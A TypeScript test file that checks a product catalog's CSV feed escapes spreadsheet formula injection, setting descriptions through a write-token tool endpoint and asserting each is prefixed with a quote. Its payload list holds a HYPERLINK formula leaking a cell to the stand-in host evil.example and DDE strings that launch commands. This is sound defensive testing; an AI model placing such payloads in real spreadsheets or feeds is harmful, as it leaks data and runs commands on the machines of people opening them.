/**
 * Spreadsheet formula injection: catalog text a write token controls reaches the marketplace CSV
 * feed, which people open in Excel or LibreOffice. Every text cell that would start a formula is
 * neutralised with a leading single quote.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { CSV_COLUMNS } from '../../src/feeds/render.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { parseCsv } from '../helpers/csv.ts';
import { callTool } from '../helpers/tools.ts';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Zum Angebot")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
];

let t: TestApp;
before(async () => {
  t = await createTestApp();
});
after(() => t.close());

test('descriptions set through the tool endpoint cannot start a formula in the CSV feed', async () => {
  const products = await t.app.services.store.db
    .selectFrom('products')
    .select(['slug', 'sku'])
    .where('is_active', '=', true)
    .orderBy('slug')
    .limit(PAYLOADS.length)
    .execute();
  assert.equal(products.length, PAYLOADS.length);
  const writer = await t.token('write');
  for (const [i, payload] of PAYLOADS.entries()) {
    const res = await callTool(t, writer, 'update_product_details', {
      slug: products[i]?.slug,
      description: payload,
    });
    assert.equal(res.statusCode, 200, res.body);
  }

  const feed = await t.app.services.feeds.create('Preisvergleich', 'csv');
  const res = await t.app.inject({ url: new URL(feed.url).pathname });
  assert.equal(res.statusCode, 200);
  const [header, ...rows] = parseCsv(res.body);
  assert.deepEqual(header, [...CSV_COLUMNS]);
  const id = CSV_COLUMNS.indexOf('id');
  const description = CSV_COLUMNS.indexOf('description');
  for (const [i, payload] of PAYLOADS.entries()) {
    const own = rows.filter((r) => r[id]?.startsWith(`${products[i]?.sku}-`));
    assert.ok(own.length > 0, `rows of ${products[i]?.slug}`);
    for (const row of own) assert.equal(row[description], `'${payload}`, JSON.stringify(payload));
  }
  for (const row of rows) {
    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
  }
});
